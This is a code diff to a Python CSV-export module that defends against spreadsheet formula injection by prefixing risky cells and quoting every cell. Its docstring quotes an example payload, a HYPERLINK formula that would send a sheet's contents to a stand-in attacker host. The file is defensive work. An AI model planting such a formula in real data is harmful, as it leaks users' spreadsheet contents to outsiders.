@@ -3,14 +3,19 @@
 A cell starting with = + - @ (or a tab or carriage return before one) is run as a formula by
 Excel, LibreOffice and Google Sheets: a donor named `=HYPERLINK("https://evil.example?"&A1)`
 would send the sheet's contents away (CSV injection). Such cells are prefixed with an
-apostrophe, which spreadsheets show as text and do not display.
+apostrophe, which spreadsheets show as text and do not display. Every cell is quoted too: Excel
+in the locales whose list separator is ";" splits an unquoted `Dana;=HYPERLINK(…)` into a name
+and a live formula, and keeps a quoted one whole.
 """
 
 from __future__ import annotations
 
 import csv
 from collections.abc import Iterable, Iterator
+from datetime import datetime
 from typing import Any
+
+from django.utils import timezone
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
@@ -21,13 +26,18 @@ def safe_cell(value: object) -> str:
 
 
 class SafeWriter:
-    """csv.writer whose rows are written through safe_cell."""
+    """csv.writer whose rows are written through safe_cell, every cell quoted."""
 
     def __init__(self, stream: Any, **options: Any) -> None:
-        self.writer = csv.writer(stream, **options)
+        self.writer = csv.writer(stream, quoting=csv.QUOTE_ALL, **options)
 
     def writerow(self, row: Iterable[object]) -> Any:
         return self.writer.writerow([safe_cell(value) for value in row])
+
+
+def iso_time(moment: datetime | None) -> str:
+    """ISO 8601 in the site's time zone, to the second: what spreadsheets read as a date."""
+    return timezone.localtime(moment).isoformat(timespec="seconds") if moment else ""
 
 
 class _Echo:
